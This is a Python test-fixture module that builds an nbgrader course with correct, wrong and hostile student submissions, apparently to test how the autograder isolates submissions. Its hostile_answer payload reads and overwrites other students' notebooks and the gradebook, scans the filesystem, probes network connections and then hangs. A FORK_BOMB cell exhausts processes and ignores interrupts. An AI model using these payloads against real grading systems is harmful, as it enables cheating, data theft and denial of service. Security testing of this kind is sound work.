"""An nbgrader course directory as an instructor lays it out: one assignment, its students' submissions.

``ps1/problem1.ipynb`` asks for ``mean(xs)``: one autograded answer cell and
two test cells (1 and 2 points). The submissions are the released notebook
with the answer cell filled in: right, wrong (integer division: it passes the
first test only), or hostile (``hostile_answer``, and ``FORK_BOMB`` in a cell
of its own at the end, which then hangs, deaf to Jupyter's interrupt).
"""

from __future__ import annotations

import datetime
import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ASSIGNMENT, NOTEBOOK = "ps1", "problem1"
ANSWER_ID, TESTS = "mean", {"test_mean_ints": 1, "test_mean_halves": 2}

CORRECT = """\
def mean(xs):
    return sum(xs) / len(xs)

open("notes.txt", "w").write("my working, not for others")  # a student's own file, next to the notebook
"""
WRONG = """\
def mean(xs):
    return sum(xs) // len(xs)  # right for [1, 2, 3], wrong for [1, 2]
"""


Notebook = dict[str, Any]  # a notebook's JSON (nbformat 4.5)


def code_cell(source: str) -> dict[str, Any]:
    return {"cell_type": "code", "id": os.urandom(4).hex(), "metadata": {}, "source": source,
            "execution_count": None, "outputs": []}  # fmt: skip


def _cell(kind: str, source: str, grade_id: str, *, grade: bool, solution: bool, points: int = 0) -> dict[str, Any]:
    """A cell nbgrader knows: an answer (``solution``), a test worth ``points`` (``grade``), or read-only text."""
    cell = code_cell(source)
    if kind != "code":
        cell = {"cell_type": kind, "id": grade_id, "metadata": {}, "source": source}
    cell["metadata"]["nbgrader"] = {
        "grade": grade,
        "solution": solution,
        "locked": not solution,
        "grade_id": grade_id,
        "schema_version": 3,
        "task": False,
        **({"points": points} if grade else {}),
    }
    return cell


def source_notebook() -> Notebook:
    """The instructor's notebook, with its solution between nbgrader's markers."""
    kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    cells = [
        _cell("markdown", "Write `mean(xs)`, the arithmetic mean of a list of numbers.", "task", grade=False,
              solution=False),
        _cell("code", "def mean(xs):\n    ### BEGIN SOLUTION\n    return sum(xs) / len(xs)\n    ### END SOLUTION",
              ANSWER_ID, grade=False, solution=True),
        _cell("code", "assert mean([1, 2, 3]) == 2", "test_mean_ints", grade=True, solution=False, points=1),
        _cell("code", "assert mean([1, 2]) == 1.5", "test_mean_halves", grade=True, solution=False, points=2),
    ]  # fmt: skip
    return {"cells": cells, "metadata": {"kernelspec": kernelspec}, "nbformat": 4, "nbformat_minor": 5}


def read_notebook(path: Path) -> Notebook:
    notebook: Notebook = json.loads(path.read_text(encoding="utf-8"))
    return notebook


def write_notebook(notebook: Notebook, path: Path) -> None:
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")


@dataclass(frozen=True)
class Course:
    root: Path

    @property
    def gradebook(self) -> Path:
        return self.root / "gradebook.db"

    def submitted(self, student: str) -> Path:
        return self.root / "submitted" / student / ASSIGNMENT / ("%s.ipynb" % NOTEBOOK)

    def autograded(self, student: str) -> Path:
        return self.root / "autograded" / student / ASSIGNMENT / ("%s.ipynb" % NOTEBOOK)

    @property
    def source(self) -> Path:
        return self.root / "source" / ASSIGNMENT / ("%s.ipynb" % NOTEBOOK)

    def copy(self, root: Path) -> Course:
        """The same course (assignment generated, gradebook included) at ``root``."""
        shutil.copytree(self.root, root)
        return Course(root)

    def configure(self, kernel_name: str, timeout_s: int, *lines: str) -> None:
        """nbgrader_config.py: the course, the kernel every submission's notebook runs on, its timeout per cell
        (and ``lines`` more); the log's lines carry their time."""
        (self.root / "nbgrader_config.py").write_text(
            "c = get_config()  # noqa: F821\n"
            "c.CourseDirectory.course_id = 'sk101'\n"
            "c.CourseDirectory.root = %r\n"
            "c.Execute.kernel_name = %r\n"
            "c.Execute.timeout = %d\n"
            "c.NbGrader.log_format = '%%(asctime)s.%%(msecs)03d [%%(name)s | %%(levelname)s] %%(message)s'\n"
            "c.NbGrader.log_datefmt = '%%H:%%M:%%S'\n"
            "%s" % (str(self.root), kernel_name, timeout_s, "".join(line + "\n" for line in lines))
        )

    def submit(self, student: str, answer: str, *added: str) -> None:
        """The released notebook with ``answer`` in its answer cell (and ``added`` code cells at its end),
        handed in by ``student``."""
        released = read_notebook(self.root / "release" / ASSIGNMENT / ("%s.ipynb" % NOTEBOOK))
        (cell,) = [c for c in released["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ANSWER_ID]
        cell["source"] = answer
        released["cells"] += [code_cell(source) for source in added]
        target = self.submitted(student)
        target.parent.mkdir(parents=True)
        write_notebook(released, target)
        (target.parent / "timestamp.txt").write_text("2026-12-01 09:00:00.000000 UTC")

    def nbgrader(
        self, *args: str, env: dict[str, str] | None = None, timeout: float = 300, check: bool = True
    ) -> tuple[float, str]:
        """``nbgrader ARGS`` in the course directory: its wall time, s, and its log (it must succeed if ``check``)."""
        started = time.perf_counter()
        done = subprocess.run(
            [sys.executable, "-m", "nbgrader", *args],
            cwd=self.root,
            # nbgrader runs `alembic` by name: the environment's own, activated or not.
            env={
                **os.environ,
                "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", ""),
                **(env or {}),
            },
            capture_output=True,
            text=True,
            timeout=timeout,
        )
        elapsed = time.perf_counter() - started
        log = done.stdout + done.stderr
        assert done.returncode == 0 or not check, "nbgrader %s failed:\n%s" % (" ".join(args), log[-6000:])
        return elapsed, log

    def scores(self, student: str) -> dict[str, float]:
        """The autograded score of each test cell of ``student``'s submission, from the gradebook."""
        from nbgrader.api import Gradebook  # type: ignore[import-untyped]  # (slow to import: only when asked)

        with Gradebook("sqlite:///%s" % self.gradebook, "sk101") as gradebook:
            return {test: float(gradebook.find_grade(test, NOTEBOOK, ASSIGNMENT, student).score) for test in TESTS}

    def outputs(self, student: str) -> list[str]:
        """What each code cell of ``student``'s autograded notebook printed or raised, in order."""
        texts = []
        for cell in read_notebook(self.autograded(student))["cells"]:
            if cell["cell_type"] == "code":
                texts.append("".join(_text(output) for output in cell["outputs"]))
        return texts


def grading_times(log: str) -> dict[str, float]:
    """Seconds from the start of each student's submission to its autograded notebook's writing, from the log."""
    times, started = {}, {}
    for line in log.splitlines():
        stamp, _, message = line.partition(" [AutogradeApp | ")
        if message and "] " in message:
            at = datetime.datetime.strptime(stamp, "%H:%M:%S.%f")
            text = message.split("] ", 1)[1]
            if text.startswith("Creating/updating student with ID "):
                student = text.split("'")[1]
                started[student] = at
            elif text.startswith("Setting destination file permissions") and started:
                student = list(started)[-1]
                times[student] = (at - started[student]).total_seconds()
    return times


def _text(output: dict[str, Any]) -> str:
    """A stream's text, or an error's name."""
    if output["output_type"] == "stream":
        text = output["text"]
        return text if isinstance(text, str) else "".join(text)
    return str(output.get("ename", ""))


def new_course(root: Path) -> Course:
    """The course with its source notebook, the assignment generated (``nbgrader generate_assignment``)."""
    course = Course(root)
    course.source.parent.mkdir(parents=True)
    write_notebook(source_notebook(), course.source)
    (root / "grader-notes.txt").write_text("the grader's own file")
    course.configure("python3", 30)
    course.nbgrader("generate_assignment", ASSIGNMENT, "--force")
    return course


def fingerprints(folder: Path) -> dict[str, str]:
    """sha256 of every file under ``folder``, by relative path."""
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def hostile_answer(targets: dict[str, str], addresses: list[str], port: int) -> str:
    """An answer that goes for everything, reports what it reached as one JSON line, then loops forever.

    ``targets``: what it tries to read, by name -> absolute host path (it tries to
    overwrite oscar's submission too); ``addresses``, ``port``: where the host's
    listener waits.
    """
    return f"""\
import json, os, socket, time
TARGETS, ADDRESSES, PORT = {json.dumps(targets)}, {json.dumps(addresses)}, {port}
report = {{}}

def attempt(name, action):
    try:
        report[name] = ["done", str(action())[:80]]
    except Exception as exc:
        report[name] = ["refused", type(exc).__name__]

def first_of(*paths):
    return next((open(p).read().strip() for p in paths if os.path.exists(p)), None)

# Other students' work, the instructor's source and the gradebook: at their host paths, and relative ones
for name, path in TARGETS.items():
    attempt("read " + name, lambda: open(path, "rb").read(80))
attempt("read ../../alice", lambda: open("../../alice/ps1/problem1.ipynb").read(80))
attempt("overwrite oscar", lambda: open(TARGETS["oscar"], "w").write("{{}}"))
attempt("overwrite ../../oscar", lambda: open("../../oscar/ps1/problem1.ipynb", "w").write("{{}}"))
# ... or anywhere on the filesystem
found, report["walk"], walk_from = [], "complete", time.monotonic()
for top, dirs, files in os.walk("/"):
    if time.monotonic() > walk_from + 5:
        report["walk"] = "cut short"
        break
    if top in ("/proc", "/sys", "/dev"):
        dirs[:] = []
    found += [os.path.join(top, f) for f in files
              if f.endswith(".ipynb") or f in ("gradebook.db", "nbgrader_config.py", "notes.txt", "grader-notes.txt")]
report["found"], report["walk_s"] = found, round(time.monotonic() - walk_from, 2)
report["cwd"], report["here"] = os.getcwd(), sorted(os.listdir("."))
# The network: the host's listener, at each of its addresses
report["interfaces"] = sorted(name for _, name in socket.if_nameindex())
for address in ADDRESSES:
    attempt("connect " + address, lambda: socket.create_connection((address, PORT), timeout=3).close())
report["memory_limit"] = first_of("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes")
report["pids_limit"] = first_of("/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max")
print("REPORT " + json.dumps(report), flush=True)

while True:  # and never answers
    pass
"""


FORK_BOMB = """\
import os, signal
children = 0  # each child forks on forever and never returns to the kernel
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
except OSError as exc:
    print("FORKED %d %s" % (children, type(exc).__name__), flush=True)
signal.signal(signal.SIGINT, signal.SIG_IGN)  # Jupyter's interrupt does nothing now
while True:
    pass
"""
